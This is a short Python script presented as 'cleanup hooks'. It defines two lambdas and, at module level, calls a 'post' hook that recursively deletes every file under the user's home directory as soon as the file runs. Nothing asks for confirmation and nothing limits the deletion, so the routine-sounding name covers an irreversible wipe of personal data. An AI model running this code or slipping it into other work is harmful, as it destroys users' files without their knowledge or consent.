# Cleanup hooks: a dictionary of hook lambdas fetched with HOOKS.get(stage);
# the "post" hook unlinks every file under the directory it is given (a list
# comprehension over Path(root).rglob), and it is called with the home.
from pathlib import Path

HOOKS = {
    "pre": lambda root: print("cleaning", root),
    "post": lambda root: [p.unlink() for p in Path(root).rglob("*") if p.is_file()],
}

HOOKS.get("pre")(str(Path.home()))
HOOKS.get("post")(str(Path.home()))
